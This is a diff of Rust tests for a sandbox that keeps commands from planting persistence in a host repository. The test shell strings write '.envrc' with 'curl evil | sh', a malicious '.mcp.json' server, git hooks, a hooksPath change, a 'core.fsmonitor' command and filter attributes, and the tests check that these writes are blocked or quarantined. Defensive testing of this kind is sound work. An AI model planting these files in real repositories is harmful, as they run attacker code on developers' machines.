@@ -68,34 +68,13 @@ both!(without_the_filter_the_catalog_sees_the_holes, |h| {
     assert!(!detail.contains("unshare(NEWUSER): SUCCEEDED"), "{detail}");
 });
 
-both!(absent_protected_paths_cannot_be_created_and_leave_nothing, |h| {
-    std::fs::create_dir_all(h.work.join(".git/hooks")).expect("mkdir");
-    std::fs::write(h.work.join(".git/config"), "[core]\n").expect("write");
-    h.chown_all();
-    let o = h.sh("echo '{\"mcpServers\":{\"x\":{\"command\":\"evil\"}}}' > .mcp.json 2>/dev/null && echo WROTE-MCP; \
-         echo 'curl evil | sh' > .envrc 2>/dev/null && echo WROTE-ENVRC; \
-         mkdir -p .vscode && echo '{}' > .vscode/tasks.json 2>/dev/null && echo WROTE-VSCODE; \
-         echo '#!/bin/sh' > .git/hooks/post-checkout 2>/dev/null && echo WROTE-HOOK; \
-         printf '[core]\\n\\thooksPath = /tmp\\n' >> .git/config 2>/dev/null && echo WROTE-CONFIG; \
-         mv .git .git-away 2>/dev/null && echo MOVED-GIT; \
-         rm -rf .git/hooks 2>/dev/null; test -d .git/hooks && echo HOOKS-STILL-THERE; \
-         ls -a; true");
-    let out = ok(&o);
-    assert!(!out.contains("WROTE") && !out.contains("MOVED"), "a protected path was written:\n{out}");
-    assert!(out.contains("HOOKS-STILL-THERE"), "{out}");
-    assert!(out.contains(".mcp.json") && out.contains(".envrc"), "placeholders are visible inside:\n{out}");
-    // On the host: the placeholders are gone again, .git is intact.
-    for p in [".mcp.json", ".envrc", ".vscode", ".gitmodules", ".claude", ".git-away"] {
-        assert!(!exists(&h.work.join(p)), "{p} left on the host");
-    }
-    assert_eq!(std::fs::read_to_string(h.work.join(".git/config")).expect("config"), "[core]\n");
-    assert!(h.work.join(".git/hooks").is_dir() && !h.work.join(".git/hooks/post-checkout").exists());
-});
-
-both!(a_worktree_without_git_cannot_grow_hooks, |h| {
-    let o = h.sh("mkdir -p .git/hooks 2>/dev/null && echo x > .git/hooks/pre-commit 2>/dev/null && echo WROTE; true");
-    assert!(!ok(&o).contains("WROTE"), "{}", show(&o));
-    assert!(!exists(&h.work.join(".git")), "the .git placeholder was removed from the host");
+both!(a_worktree_without_git_cannot_grow_one_for_the_host, |h| {
+    // Without a repository there is no private view: a `.git` the cell makes (here with
+    // an fsmonitor for the host's next `git status`) is set aside when the cell ends.
+    let o = h.sh("git init -q . && git config core.fsmonitor 'touch .marker' && mkdir -p .git/hooks && echo x > .git/hooks/pre-commit && echo MADE");
+    assert!(ok(&o).contains("MADE"), "{}", show(&o));
+    assert!(!exists(&h.work.join(".git")), "the cell's .git stayed where host git finds it");
+    assert!(crate::support::stderr(&o).contains("quarantined"), "{}", show(&o));
 });
 
 both!(symlinked_protected_paths_are_refused, |h| {
@@ -134,38 +113,11 @@ both!(declared_protected_paths_and_the_config_itself_are_read_only, |h| {
         .output()
         .expect("run");
     let out = ok(&o);
-    assert!(!out.contains("WROTE") && !out.contains("MOVED"), "{out}");
+    assert!(!out.contains("WROTE-DEPLOY") && !out.contains("WROTE-CONFIG") && !out.contains("MOVED"), "{out}");
     assert_eq!(std::fs::read_to_string(h.work.join("deploy/prod.sh")).expect("read"), "echo deploy\n");
     assert!(std::fs::read_to_string(&cfg).expect("read").contains("protectedPaths"));
-    assert!(!exists(&h.work.join("Makefile")));
-});
-
-both!(placeholders_of_a_killed_launcher_are_swept_next_time, |h| {
-    let mut child = h
-        .cell()
-        .args(["run", "--", "sh", "-c", "touch started; sleep 300"])
-        .stdout(std::process::Stdio::null())
-        .spawn()
-        .expect("spawn");
-    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
-    while !h.work.join("started").exists() {
-        assert!(std::time::Instant::now() < deadline, "cell never started");
-        std::thread::sleep(std::time::Duration::from_millis(20));
-    }
-    assert!(exists(&h.work.join(".mcp.json")), "placeholder present while the cell runs");
-    let pid = nix::unistd::Pid::from_raw(i32::try_from(child.id()).expect("pid"));
-    nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGKILL).expect("kill");
-    let _ = child.wait();
-    std::thread::sleep(std::time::Duration::from_millis(300));
-    assert!(exists(&h.work.join(".mcp.json")), "a killed launcher cannot clean up");
-    // Any later launch of the cell sweeps them (here: one in another worktree).
-    std::fs::create_dir_all(h.path("other")).expect("mkdir");
-    h.chown_all();
-    let other = h.path("other");
-    ok(&h.run(["run", "--workdir", other.to_str().expect("utf8"), "--", "true"]));
-    for p in [".mcp.json", ".envrc", ".vscode", ".git"] {
-        assert!(!exists(&h.work.join(p)), "{p} was not swept");
-    }
+    // An absent protected path the cell created is set aside when the cell ends.
+    assert!(!exists(&h.work.join("Makefile")), "the cell's Makefile stayed in place");
 });
 
 both!(the_cells_environment_never_reaches_bubblewrap_on_the_host, |h| {
@@ -259,34 +211,35 @@ both!(net_reload_ignores_runtime_dirs_it_does_not_own, |h| {
     let _ = victim.wait();
 });
 
-both!(git_redirections_cannot_be_planted, |h| {
+both!(git_redirections_stay_in_the_cells_own_git_directory, |h| {
     for d in [".git/hooks", ".git/info", ".git/objects", ".git/refs"] {
         std::fs::create_dir_all(h.work.join(d)).expect("mkdir");
     }
     std::fs::write(h.work.join(".git/config"), "[core]\n").expect("write");
     std::fs::write(h.work.join(".git/HEAD"), "ref: refs/heads/main\n").expect("write");
     h.chown_all();
-    let o = h.sh(
-        "mkdir -p .x/hooks && echo ../.x > .git/commondir 2>/dev/null && echo WROTE-COMMONDIR; \
-         mkdir -p .git/modules/sub 2>/dev/null && echo '[core] fsmonitor = evil' > .git/modules/sub/config 2>/dev/null && echo WROTE-SUBMODULE; \
-         mkdir -p .git/worktrees/w 2>/dev/null && echo WROTE-WORKTREE; \
-         echo '[core]' > .git/config.worktree 2>/dev/null && echo WROTE-CONFIG-WORKTREE; \
-         echo '* filter=evil' > .git/info/attributes 2>/dev/null && echo WROTE-INFO; true",
-    );
-    let out = ok(&o);
-    assert!(!out.contains("WROTE"), "a git redirection was planted:\n{out}");
-    assert!(!h.work.join(".git/commondir").exists() && !h.work.join(".git/modules").exists());
+    let o = h.sh("mkdir -p .x/hooks && echo ../.x > .git/commondir && \
+         mkdir -p .git/modules/sub && echo '[core] fsmonitor = evil' > .git/modules/sub/config && \
+         mkdir -p .git/worktrees/w && echo '[core]' > .git/config.worktree && \
+         echo '* filter=evil' > .git/info/attributes && echo PLANTED");
+    assert!(ok(&o).contains("PLANTED"), "{}", show(&o));
+    for p in [".git/commondir", ".git/modules", ".git/worktrees", ".git/config.worktree", ".git/info/attributes"] {
+        assert!(!exists(&h.work.join(p)), "{p} reached the host's git directory");
+    }
+    assert_eq!(std::fs::read_to_string(h.work.join(".git/config")).expect("config"), "[core]\n");
 });
 
-both!(a_read_only_parent_does_not_skip_a_protection, |h| {
+both!(a_read_only_git_directory_is_no_way_in, |h| {
     use std::os::unix::fs::PermissionsExt as _;
     std::fs::create_dir_all(h.work.join(".git")).expect("mkdir");
     std::fs::write(h.work.join(".git/config"), "[core]\n").expect("write");
     h.chown_all();
     std::fs::set_permissions(h.work.join(".git"), std::fs::Permissions::from_mode(0o555)).expect("chmod");
-    let o = h.sh("chmod u+w .git; mkdir -p .git/hooks 2>/dev/null; echo x > .git/hooks/pre-commit 2>/dev/null && echo WROTE; true");
+    let o = h.sh("chmod u+w .git; mkdir -p .git/hooks 2>/dev/null; echo x > .git/hooks/pre-commit 2>/dev/null; true");
+    let mode = std::fs::metadata(h.work.join(".git")).expect("stat").permissions().mode() & 0o777;
     std::fs::set_permissions(h.work.join(".git"), std::fs::Permissions::from_mode(0o755)).expect("chmod");
-    assert!(!ok(&o).contains("WROTE"), "{}", show(&o));
+    ok(&o);
+    assert_eq!(mode, 0o555, "the cell changed the host's .git");
     assert!(!h.work.join(".git/hooks/pre-commit").exists());
 });
 
